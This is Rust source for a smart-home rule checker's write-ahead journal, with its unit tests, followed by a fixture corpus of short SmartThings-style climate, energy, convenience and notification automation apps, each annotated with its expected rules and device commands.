                // trusted even when the records it folded are gone
                // (compaction deleted them). Appends resume past it —
                // offsets are never reused.
                inner.next_offset = last;
                inner.tail_start = last;
                inner.tail_bytes = 0;
            }
        }
        let journal = Journal {
            backend,
            gate: RwLock::new(()),
            inner: Mutex::new(inner),
            telemetry: OnceLock::new(),
            config,
        };
        // Re-seed dirty bookkeeping from the un-checkpointed tail.
        let replay_from = journal.last_checkpoint_offset().unwrap_or(0);
        let tail = journal.records_from(replay_from)?;
        {
            let mut inner = journal.lock();
            for (_, record) in &tail {
                note_dirty(&mut inner, record);
            }
        }
        Ok(journal)
    }

    fn lock(&self) -> MutexGuard<'_, JournalInner> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Wires a telemetry bus (set-once). Returns `false` when a bus was
    /// already attached.
    pub fn set_telemetry(&self, bus: Arc<TelemetryBus>) -> bool {
        self.telemetry.set(bus).is_ok()
    }

    fn publish(&self, event: TelemetryEvent) {
        if let Some(bus) = self.telemetry.get() {
            bus.publish(event);
        }
    }

    /// Takes the checkpoint gate **shared** — held by a journaled
    /// mutation across its apply-then-append window. Leaf operations
    /// only: never acquire while already holding it.
    pub fn gate(&self) -> RwLockReadGuard<'_, ()> {
        self.gate.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// Takes the checkpoint gate **exclusively** — held by a checkpoint
    /// while it exports the dirty set.
    pub fn gate_exclusive(&self) -> RwLockWriteGuard<'_, ()> {
        self.gate.write().unwrap_or_else(PoisonError::into_inner)
    }

    /// Appends one record durably, returning its global offset.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend write fails. The caller's
    /// in-memory mutation has already been applied at that point; the
    /// error reports that durability lapsed, not that state is bad.
    pub fn append(&self, record: &JournalRecord) -> Result<u64, HgError> {
        let frame = encode_frame(&record.to_payload());
        let mut inner = self.lock();
        if inner.tail_bytes > 0
            && inner.tail_bytes + frame.len() as u64 > self.config.max_segment_bytes
        {
            inner.tail_start = inner.next_offset;
            inner.tail_bytes = 0;
        }
        let offset = inner.next_offset;
        if let Err(e) = self.backend.append_segment(inner.tail_start, &frame) {
            inner.append_failures += 1;
            return Err(journal_err(format!("append at offset {offset}: {e}")));
        }
        inner.tail_bytes += frame.len() as u64;
        inner.next_offset += 1;
        inner.appends += 1;
        inner.append_bytes += frame.len() as u64;
        note_dirty(&mut inner, record);
        drop(inner);
        self.publish(TelemetryEvent::JournalAppended {
            records: 1,
            bytes: frame.len() as u64,
        });
        Ok(offset)
    }

    /// Flushes backend buffers to stable storage.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend sync fails.
    pub fn sync(&self) -> Result<(), HgError> {
        let started = Instant::now();
        self.backend.sync().map_err(journal_err)?;
        self.publish(TelemetryEvent::JournalSynced {
            micros: started.elapsed().as_micros() as u64,
        });
        Ok(())
    }

    /// Global offset of the next record to append (= records ever
    /// appended, minus nothing: offsets are never reused).
    pub fn next_offset(&self) -> u64 {
        self.lock().next_offset
    }

    /// Stored checkpoint count.
    pub fn checkpoint_count(&self) -> usize {
        self.lock().checkpoints.len()
    }

    /// Offset of the newest stored checkpoint.
    pub fn last_checkpoint_offset(&self) -> Option<u64> {
        self.lock().checkpoints.last().copied()
    }

    /// The dirty set a delta checkpoint would need to export right now:
    /// `(dirtied home ids, removed home ids, store dirty)`.
    pub fn dirty_set(&self) -> (Vec<u64>, Vec<u64>, bool) {
        let inner = self.lock();
        (
            inner.dirty.iter().copied().collect(),
            inner.removed.iter().copied().collect(),
            inner.store_dirty,
        )
    }

    /// Decodes all records at offsets `>= from`, in order.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure or a record that no longer
    /// decodes.
    pub fn records_from(&self, from: u64) -> Result<Vec<(u64, JournalRecord)>, HgError> {
        let starts = self.backend.segments().map_err(journal_err)?;
        let mut out = Vec::new();
        for start in starts {
            let bytes = self.backend.read_segment(start).map_err(journal_err)?;
            let scan = scan_frames(&bytes);
            for (i, payload) in scan.payloads.iter().enumerate() {
                let offset = start + i as u64;
                if offset < from {
                    continue;
                }
                let record = JournalRecord::from_payload(payload)
                    .map_err(|e| journal_err(format!("record at offset {offset}: {e}")))?;
                out.push((offset, record));
            }
        }
        Ok(out)
    }

    /// Writes a checkpoint document and resets the dirty bookkeeping.
    ///
    /// The caller (the fleet's checkpoint path) is responsible for
    /// holding [`gate_exclusive`](Journal::gate_exclusive) while it
    /// exported the states, and for `ckpt.offset == next_offset()` under
    /// that gate.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend write fails; bookkeeping is
    /// left un-reset so a retry exports at least the same dirty set.
    pub fn checkpoint_write(&self, ckpt: &Checkpoint) -> Result<CheckpointStats, HgError> {
        let started = Instant::now();
        let text = ckpt.to_text();
        self.backend
            .write_checkpoint(ckpt.offset, &text)
            .map_err(journal_err)?;
        let mut inner = self.lock();
        if inner.checkpoints.last() != Some(&ckpt.offset) {
            inner.checkpoints.push(ckpt.offset);
            inner.checkpoints.sort_unstable();
        }
        inner.dirty.clear();
        inner.removed.clear();
        inner.store_dirty = false;
        drop(inner);
        let stats = CheckpointStats {
            offset: ckpt.offset,
            homes: ckpt.homes.len() as u64,
            full: ckpt.full,
            micros: started.elapsed().as_micros() as u64,
        };
        self.publish(TelemetryEvent::JournalCheckpoint {
            offset: stats.offset,
            homes: stats.homes,
            full: stats.full,
            micros: stats.micros,
        });
        Ok(stats)
    }

    /// Reads and decodes the whole stored checkpoint chain, ascending.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure or an undecodable document.
    pub fn checkpoint_chain(&self) -> Result<Vec<Checkpoint>, HgError> {
        let offsets: Vec<u64> = self.lock().checkpoints.clone();
        offsets
            .iter()
            .map(|&offset| {
                let text = self.backend.read_checkpoint(offset).map_err(journal_err)?;
                Checkpoint::from_text(&text)
            })
            .collect()
    }

    /// Folds the stored checkpoint chain into one complete fleet image
    /// (recovery's starting point).
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when no checkpoint exists or the chain is
    /// damaged.
    pub fn materialize(&self) -> Result<MaterializedFleet, HgError> {
        materialize(&self.checkpoint_chain()?)
    }

    /// Compacts the journal: folds the checkpoint chain into a single
    /// full checkpoint and deletes every segment fully covered by it.
    /// History below the surviving checkpoint is gone afterwards — replay
    /// can only resume at its offset.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure or a damaged chain.
    pub fn compact(&self) -> Result<CompactStats, HgError> {
        let _exclusive = self.gate_exclusive();
        let chain = self.checkpoint_chain()?;
        if chain.is_empty() {
            return Err(journal_err("nothing to compact: no checkpoints"));
        }
        let folded = materialize(&chain)?;
        let full = Checkpoint {
            offset: folded.offset,
            full: true,
            shards: folded.shards,
            next_id: folded.next_id,
            store: Some(folded.store),
            homes: folded.homes.into_iter().collect(),
            removed: Vec::new(),
        };
        let text = full.to_text();
        self.backend
            .write_checkpoint(full.offset, &text)
            .map_err(journal_err)?;
        let mut dropped_ckpts = 0u64;
        for ckpt in &chain {
            if ckpt.offset != full.offset {
                self.backend
                    .remove_checkpoint(ckpt.offset)
                    .map_err(journal_err)?;
                dropped_ckpts += 1;
            }
        }
        // A segment whose records all precede the surviving checkpoint
        // will never be replayed again. Segment record counts are implied
        // by neighbour start offsets.
        let mut inner = self.lock();
        let starts = self.backend.segments().map_err(journal_err)?;
        let mut dropped_segs = 0u64;
        for (i, &start) in starts.iter().enumerate() {
            let end = starts.get(i + 1).copied().unwrap_or(inner.next_offset);
            if end <= full.offset && start != inner.tail_start {
                self.backend.remove_segment(start).map_err(journal_err)?;
                dropped_segs += 1;
            }
        }
        inner.checkpoints = vec![full.offset];
        drop(inner);
        Ok(CompactStats {
            checkpoints_folded: dropped_ckpts,
            segments_dropped: dropped_segs,
            offset: full.offset,
        })
    }

    /// Wipes all stored segments and checkpoints — a new timeline. Used
    /// when an externally-restored fleet replaces the one this journal
    /// described (e.g. `POST /restore`): the old history describes a
    /// fleet that no longer exists.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure.
    pub fn reset(&self) -> Result<(), HgError> {
        let _exclusive = self.gate_exclusive();
        let mut inner = self.lock();
        for start in self.backend.segments().map_err(journal_err)? {
            self.backend.remove_segment(start).map_err(journal_err)?;
        }
        for offset in self.backend.checkpoints().map_err(journal_err)? {
            self.backend
                .remove_checkpoint(offset)
                .map_err(journal_err)?;
        }
        *inner = JournalInner::default();
        Ok(())
    }

    /// Publishes a replay-completed event (called by the recovery path).
    pub fn note_replayed(&self, records: u64, micros: u64) {
        self.publish(TelemetryEvent::JournalReplayed { records, micros });
    }

    /// Live stats as a JSON document (the `/journal/stats` surface).
    pub fn stats_json(&self) -> hg_rules::json::Json {
        use hg_rules::json::Json;
        let segments = self.backend.segments().unwrap_or_default();
        let segment_bytes: u64 = segments
            .iter()
            .map(|&s| {
                self.backend
                    .read_segment(s)
                    .map(|b| b.len() as u64)
                    .unwrap_or(0)
            })
            .sum();
        let inner = self.lock();
        Json::obj([
            ("records", Json::Num(inner.next_offset as i64)),
            ("segments", Json::Num(segments.len() as i64)),
            ("segmentBytes", Json::Num(segment_bytes as i64)),
            ("checkpoints", Json::Num(inner.checkpoints.len() as i64)),
            (
                "lastCheckpoint",
                inner
                    .checkpoints
                    .last()
                    .map(|&o| Json::Num(o as i64))
                    .unwrap_or(Json::Null),
            ),
            ("dirtyHomes", Json::Num(inner.dirty.len() as i64)),
            (
                "removedSinceCheckpoint",
                Json::Num(inner.removed.len() as i64),
            ),
            ("storeDirty", Json::Bool(inner.store_dirty)),
            ("appendsSession", Json::Num(inner.appends as i64)),
            ("appendBytesSession", Json::Num(inner.append_bytes as i64)),
            (
                "appendFailuresSession",
                Json::Num(inner.append_failures as i64),
            ),
            ("truncatedOnOpen", Json::Num(inner.truncated_on_open as i64)),
        ])
    }
}

fn note_dirty(inner: &mut JournalInner, record: &JournalRecord) {
    for id in record.dirtied_homes() {
        inner.dirty.insert(id);
        inner.removed.remove(&id);
    }
    if let Some(id) = record.removed_home() {
        inner.removed.insert(id);
        inner.dirty.remove(&id);
    }
    if record.touches_store() {
        inner.store_dirty = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    fn rec(id: u64) -> JournalRecord {
        JournalRecord::UninstallCommitted {
            id,
            app: format!("App{id}"),
        }
    }

    #[test]
    fn appends_rotate_segments_and_reopen_resumes() {
        let mem = MemBackend::new();
        let journal = Journal::open_with(
            Box::new(mem.clone()),
            JournalConfig {
                max_segment_bytes: 96,
            },
        )
        .unwrap();
        for n in 0..8 {
            assert_eq!(journal.append(&rec(n)).unwrap(), n);
        }
        assert!(
            mem.segments().unwrap().len() > 1,
            "tiny segment cap must force rotation"
        );
        drop(journal);
        let reopened = Journal::open(Box::new(mem.clone())).unwrap();
        assert_eq!(reopened.next_offset(), 8);
        let records = reopened.records_from(0).unwrap();
        assert_eq!(records.len(), 8);
        assert_eq!(records[5].0, 5);
        assert_eq!(records[5].1, rec(5));
        // Dirty bookkeeping was re-seeded from the tail.
        let (dirty, _, _) = reopened.dirty_set();
        assert_eq!(dirty.len(), 8);
    }

    #[test]
    fn torn_tail_truncates_on_open_and_later_data_is_dropped() {
        let mem = MemBackend::new();
        let journal = Journal::open(Box::new(mem.clone())).unwrap();
        for n in 0..5 {
            journal.append(&rec(n)).unwrap();
        }
        drop(journal);
        // Simulate a crash mid-write of record 3 (records 3-4 lost).
        let crashed = mem.fork();
        crashed.truncate_to_records(3, &[0x48, 0x47, 0x4A]);
        let reopened = Journal::open(Box::new(crashed.clone())).unwrap();
        assert_eq!(reopened.next_offset(), 3);
        assert_eq!(reopened.records_from(0).unwrap().len(), 3);
        // The repair is durable: a second open sees a clean journal.
        drop(reopened);
        let again = Journal::open(Box::new(crashed)).unwrap();
        assert_eq!(again.next_offset(), 3);
        assert_eq!(again.records_from(0).unwrap().len(), 3);
        // And appends continue at the truncated offset.
        assert_eq!(again.append(&rec(99)).unwrap(), 3);
    }

    #[test]
    fn dirty_set_tracks_and_checkpoints_reset_it() {
        let journal = Journal::open(Box::new(MemBackend::new())).unwrap();
        journal.append(&rec(1)).unwrap();
        journal
            .append(&JournalRecord::HomeRemoved { id: 1 })
            .unwrap();
        journal
            .append(&JournalRecord::StoreRetired { app: "A".into() })
            .unwrap();
        let (dirty, removed, store_dirty) = journal.dirty_set();
        assert!(dirty.is_empty(), "removal supersedes dirtiness");
        assert_eq!(removed, vec![1]);
        assert!(store_dirty);
        journal
            .checkpoint_write(&Checkpoint {
                offset: journal.next_offset(),
                full: true,
                shards: 1,
                next_id: 2,
                store: Some(homeguard_core::RuleStore::new().export_state()),
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        let (dirty, removed, store_dirty) = journal.dirty_set();
        assert!(dirty.is_empty() && removed.is_empty() && !store_dirty);
        assert_eq!(journal.last_checkpoint_offset(), Some(3));
    }

    #[test]
    fn compaction_folds_to_one_full_checkpoint_and_drops_dead_segments() {
        let mem = MemBackend::new();
        let journal = Journal::open_with(
            Box::new(mem.clone()),
            JournalConfig {
                max_segment_bytes: 64,
            },
        )
        .unwrap();
        let store = homeguard_core::RuleStore::new().export_state();
        journal
            .checkpoint_write(&Checkpoint {
                offset: 0,
                full: true,
                shards: 1,
                next_id: 0,
                store: Some(store.clone()),
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        for n in 0..6 {
            journal.append(&rec(n)).unwrap();
        }
        journal
            .checkpoint_write(&Checkpoint {
                offset: 6,
                full: false,
                shards: 1,
                next_id: 0,
                store: None,
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        let before_segments = mem.segments().unwrap().len();
        assert!(before_segments > 1);
        let stats = journal.compact().unwrap();
        assert_eq!(stats.offset, 6);
        assert_eq!(stats.checkpoints_folded, 1);
        assert!(stats.segments_dropped > 0);
        assert_eq!(journal.checkpoint_count(), 1);
        // The journal still opens and materializes after compaction.
        drop(journal);
        let reopened = Journal::open(Box::new(mem)).unwrap();
        let image = reopened.materialize().unwrap();
        assert_eq!(image.offset, 6);
        assert!(reopened.records_from(image.offset).unwrap().is_empty());
    }
}
