//! Climate, energy and metering automation apps, including the paper's
//! ItsTooHot / EnergySaver Self-Disabling pair and the ComfortTV /
//! ColdDefender Actuator-Race pair (Figs. 3-5 demo apps live here too).

use crate::catalog::{Category, CorpusApp};

/// The climate/energy corpus slice.
pub static CLIMATE_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "ComfortTV",
        source: r#"
definition(name: "ComfortTV", description: "Open the window when watching TV in a hot room")
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement", title: "Temperature sensor"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch", title: "Window opener switch"
def installed() { subscribe(tv1, "switch", onHandler) }
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) { turnOnWindow() }
}
def turnOnWindow() {
    if (window1.currentSwitch == "off") { window1.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "ColdDefender",
        source: r#"
definition(name: "ColdDefender", description: "Close the window when the TV is on and it rains")
input "tv1", "capability.switch", title: "Which TV?"
input "rain", "capability.waterSensor", title: "Rain sensor"
input "window1", "capability.switch", title: "Window opener switch"
def installed() { subscribe(tv1, "switch.on", onTv) }
def onTv(evt) {
    if (rain.currentWater == "wet") { window1.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "CatchLiveShow",
        source: r#"
definition(name: "CatchLiveShow", description: "Turn the TV on when a voice message arrives on Thursdays")
input "msgBox", "capability.contactSensor", title: "Message indicator"
input "tv1", "capability.switch", title: "Which TV?"
def installed() { subscribe(msgBox, "contact.open", onMessage) }
def onMessage(evt) { tv1.on() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "ItsTooHot",
        source: r#"
definition(name: "ItsTooHot", description: "Turn on the air conditioner when it is hot")
input "tSensor", "capability.temperatureMeasurement", title: "Temperature sensor"
input "hotLevel", "number", title: "Too hot above?"
input "ac", "capability.switch", title: "Air conditioner"
def installed() { subscribe(tSensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value > hotLevel) { ac.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "EnergySaver",
        source: r#"
definition(name: "EnergySaver", description: "Turn devices off when electricity usage exceeds a threshold")
input "meter", "capability.powerMeter", title: "Home energy meter"
input "maxWatts", "number", title: "Turn off above (W)?"
input "victims", "capability.switch", title: "Devices to shed", multiple: true
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value > maxWatts) { victims.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "ItsTooCold",
        source: r#"
definition(name: "ItsTooCold", description: "Turn on a space heater when it is cold")
input "tSensor", "capability.temperatureMeasurement", title: "Temperature sensor"
input "coldLevel", "number", title: "Too cold below?"
input "heater", "capability.switch", title: "Space heater"
def installed() { subscribe(tSensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value < coldLevel) { heater.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "KeepMeCozy",
        source: r#"
definition(name: "KeepMeCozy", description: "Set the thermostat setpoints when mode changes")
input "stat", "capability.thermostat", title: "Thermostat"
input "heatTo", "number", title: "Heat to?"
input "coolTo", "number", title: "Cool to?"
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Home") {
        stat.setHeatingSetpoint(heatTo)
        stat.setCoolingSetpoint(coolTo)
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setHeatingSetpoint", "setCoolingSetpoint"],
    },
    CorpusApp {
        name: "AwayThermostat",
        source: r#"
definition(name: "AwayThermostat", description: "Relax the thermostat when everyone leaves")
input "presence1", "capability.presenceSensor", title: "Whose phone?"
input "stat", "capability.thermostat", title: "Thermostat"
def installed() { subscribe(presence1, "presence.not present", leftHandler) }
def leftHandler(evt) {
    stat.setHeatingSetpoint(15)
    stat.setCoolingSetpoint(29)
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setHeatingSetpoint", "setCoolingSetpoint"],
    },
    CorpusApp {
        name: "WindowOrAC",
        source: r#"
definition(name: "WindowOrAC", description: "Open the window instead of cooling when outside is cooler")
input "inside", "capability.temperatureMeasurement", title: "Inside sensor"
input "window1", "capability.switch", title: "Window opener"
input "ac", "capability.switch", title: "Air conditioner"
def installed() { subscribe(inside, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value > 28) {
        ac.off()
        window1.on()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off", "on"],
    },
    CorpusApp {
        name: "HumidityHelper",
        source: r#"
definition(name: "HumidityHelper", description: "Run the dehumidifier when humidity is high")
input "hSensor", "capability.relativeHumidityMeasurement", title: "Humidity sensor"
input "dehum", "capability.switch", title: "Dehumidifier"
def installed() { subscribe(hSensor, "humidity", humHandler) }
def humHandler(evt) {
    if (evt.value > 65) { dehum.on() }
    if (evt.value < 45) { dehum.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "GreenhouseMist",
        source: r#"
definition(name: "GreenhouseMist", description: "Humidify the greenhouse when dry")
input "hSensor", "capability.relativeHumidityMeasurement", title: "Humidity sensor"
input "mister", "capability.switch", title: "Humidifier"
def installed() { subscribe(hSensor, "humidity", humHandler) }
def humHandler(evt) {
    if (evt.value < 40) { mister.on() } else { mister.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "WhenItsHotFan",
        source: r#"
definition(name: "WhenItsHotFan", description: "Ceiling fan on when warm, off when cool")
input "tSensor", "capability.temperatureMeasurement", title: "Temperature sensor"
input "fan", "capability.switch", title: "Ceiling fan"
def installed() { subscribe(tSensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value >= 26) {
        fan.on()
    } else if (evt.value <= 22) {
        fan.off()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "NightCooldown",
        source: r#"
definition(name: "NightCooldown", description: "Crack the window for sleeping at 22:30")
input "window1", "capability.switch", title: "Window opener"
def installed() { schedule("22:30", crackWindow) }
def crackWindow() { window1.on() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "FrostGuard",
        source: r#"
definition(name: "FrostGuard", description: "Emergency heat and close windows near freezing")
input "tSensor", "capability.temperatureMeasurement", title: "Outdoor sensor"
input "heater", "capability.switch", title: "Heater"
input "window1", "capability.switch", title: "Window opener"
def installed() { subscribe(tSensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value < 3) {
        heater.on()
        window1.off()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "SolarExportGuard",
        source: r#"
definition(name: "SolarExportGuard", description: "Run the water heater when solar export is high")
input "meter", "capability.powerMeter", title: "Export meter"
input "boiler", "capability.switch", title: "Water heater"
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value > 2000) { boiler.on() }
    if (evt.value < 200) { boiler.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "PeakShaver",
        source: r#"
definition(name: "PeakShaver", description: "Shed the pool pump during utility peak hours")
input "pump", "capability.switch", title: "Pool pump"
def installed() {
    schedule("17:00", shed)
    schedule("21:00", restore)
}
def shed() { pump.off() }
def restore() { pump.on() }
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["off", "on"],
    },
    CorpusApp {
        name: "EnergyMonitorAlert",
        source: r#"
definition(name: "EnergyMonitorAlert", description: "Text me when usage spikes")
input "meter", "capability.powerMeter", title: "Energy meter"
input "phone1", "phone", title: "Phone number"
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value > 5000) { sendSms(phone1, "Power spike detected") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "FreezerWatch",
        source: r#"
definition(name: "FreezerWatch", description: "Warn if the freezer gets warm")
input "tSensor", "capability.temperatureMeasurement", title: "Freezer sensor"
input "phone1", "phone", title: "Phone number"
def installed() { subscribe(tSensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.value > -10) { sendSms(phone1, "Freezer is warming up!") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "HeaterOffWindowOpen",
        source: r#"
definition(name: "HeaterOffWindowOpen", description: "Stop heating when a window contact opens")
input "winContact", "capability.contactSensor", title: "Window contact"
input "heater", "capability.switch", title: "Heater"
def installed() { subscribe(winContact, "contact.open", openHandler) }
def openHandler(evt) { heater.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "CirculateTheAir",
        source: r#"
definition(name: "CirculateTheAir", description: "Fan circulates periodically while home")
input "fan", "capability.switch", title: "Circulation fan"
def installed() { runEvery30Minutes(circulate) }
def circulate() {
    if (location.mode == "Home") {
        fan.on()
        runIn(600, fanOff)
    }
}
def fanOff() { fan.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
];
