//! Convenience, notification-only, Web-Services and special-case apps —
//! including the three §VIII-B special cases (Feed My Pet, Sleepy Time,
//! Camera Power Scheduler) that defeat the stock extractor.

use crate::catalog::{Category, CorpusApp};

/// Convenience and appliance automation.
pub static CONVENIENCE_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "CoffeeAfterShower",
        source: r#"
definition(name: "CoffeeAfterShower", description: "Start the coffee maker when bathroom humidity spikes")
input "hSensor", "capability.relativeHumidityMeasurement", title: "Bathroom humidity"
input "coffee", "capability.switch", title: "Coffee maker"
def installed() { subscribe(hSensor, "humidity", humHandler) }
def humHandler(evt) {
    if (evt.value > 75) { coffee.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "MorningCoffee",
        source: r#"
definition(name: "MorningCoffee", description: "Coffee maker on at 6:45 on weekdays")
input "coffee", "capability.switch", title: "Coffee maker"
def installed() { schedule("6:45", brew) }
def brew() {
    coffee.on()
    runIn(3600, brewOff)
}
def brewOff() { coffee.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "MediaMute",
        source: r#"
definition(name: "MediaMute", description: "Pause the music when the doorbell button is pushed")
input "bell", "capability.button", title: "Doorbell"
input "player", "capability.musicPlayer", title: "Speakers"
def installed() { subscribe(bell, "button.pushed", ringHandler) }
def ringHandler(evt) { player.pause() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["pause"],
    },
    CorpusApp {
        name: "DinnerBell",
        source: r#"
definition(name: "DinnerBell", description: "Announce dinner on the speakers from an app tap")
input "player", "capability.musicPlayer", title: "Speakers"
def installed() { subscribe(app, announce) }
def announce(evt) { player.playText("Dinner is ready") }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["playText"],
    },
    CorpusApp {
        name: "LaundryMinder",
        source: r#"
definition(name: "LaundryMinder", description: "Beep when the washer power drops (cycle done)")
input "meter", "capability.powerMeter", title: "Washer meter"
input "chime", "capability.tone", title: "Chime"
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value < 5) { chime.beep() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["beep"],
    },
    CorpusApp {
        name: "SprinklerSchedule",
        source: r#"
definition(name: "SprinklerSchedule", description: "Water the lawn each morning unless it rained")
input "rain", "capability.waterSensor", title: "Rain gauge"
input "sprinkler", "capability.valve", title: "Sprinkler valve"
def installed() { schedule("5:30", water) }
def water() {
    if (rain.currentWater == "dry") {
        sprinkler.open()
        runIn(1200, stopWater)
    }
}
def stopWater() { sprinkler.close() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["open", "close"],
    },
    CorpusApp {
        name: "PetDoorCurfew",
        source: r#"
definition(name: "PetDoorCurfew", description: "Lock the pet door at dusk, unlock at dawn")
input "petDoor", "capability.lock", title: "Pet door"
def installed() {
    schedule("20:00", curfew)
    schedule("6:00", release)
}
def curfew() { petDoor.lock() }
def release() { petDoor.unlock() }
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["lock", "unlock"],
    },
    CorpusApp {
        name: "TvOffAtBedtime",
        source: r#"
definition(name: "TvOffAtBedtime", description: "Turn the TV off when the home enters Night mode")
input "tv1", "capability.switch", title: "The TV"
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Night") { tv1.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "ToggleFromButton",
        source: r#"
definition(name: "ToggleFromButton", description: "A button toggles the bedside lamp")
input "btn", "capability.button", title: "Bedside button"
input "lamp", "capability.switch", title: "Bedside lamp"
def installed() { subscribe(btn, "button.pushed", pressed) }
def pressed(evt) {
    if (lamp.currentSwitch == "on") { lamp.off() } else { lamp.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["off", "on"],
    },
    CorpusApp {
        name: "FanWhileCooking",
        source: r#"
definition(name: "FanWhileCooking", description: "Vent fan runs while the stove outlet draws power")
input "stove", "capability.powerMeter", title: "Stove meter"
input "vent", "capability.switch", title: "Vent fan"
def installed() { subscribe(stove, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value > 100) { vent.on() } else { vent.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "QuietHours",
        source: r#"
definition(name: "QuietHours", description: "Mute the speakers during Night mode")
input "player", "capability.musicPlayer", title: "Speakers"
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Night") { player.mute() } else { player.unmute() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["mute", "unmute"],
    },
    CorpusApp {
        name: "HolidayModeButton",
        source: r#"
definition(name: "HolidayModeButton", description: "App tap toggles vacation away mode and lighting")
input "lights", "capability.switch", title: "Show lights", multiple: true
def installed() { subscribe(app, tapHandler) }
def tapHandler(evt) {
    setLocationMode("Away")
    lights.off()
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLocationMode", "off"],
    },
];

/// Notification-only apps (the paper's 56-app class that Fig. 8 excludes).
pub static NOTIFICATION_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "NotifyWhenLeft",
        source: r#"
definition(name: "NotifyWhenLeft", description: "Text when a presence sensor departs")
input "presence1", "capability.presenceSensor", title: "Whose phone?"
